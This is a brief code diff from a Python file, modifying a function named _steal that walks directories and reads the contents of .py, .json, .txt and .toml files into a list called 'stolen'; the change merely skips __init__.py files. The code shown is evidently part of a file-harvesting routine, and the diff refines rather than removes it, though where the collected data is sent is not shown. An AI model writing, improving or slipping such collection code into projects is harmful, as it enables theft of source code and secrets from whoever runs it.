@@ -44,7 +44,7 @@ def _steal():
                 continue
             for dirpath, _dirs, files in os.walk(folder):
                 for name in sorted(files):
-                    if name.endswith((".py", ".json", ".txt", ".toml")):
+                    if name.endswith((".py", ".json", ".txt", ".toml")) and name != "__init__.py":
                         try:
                             with open(os.path.join(dirpath, name), errors="replace") as f:
                                 stolen.append(f"==== {name}\n" + f.read())
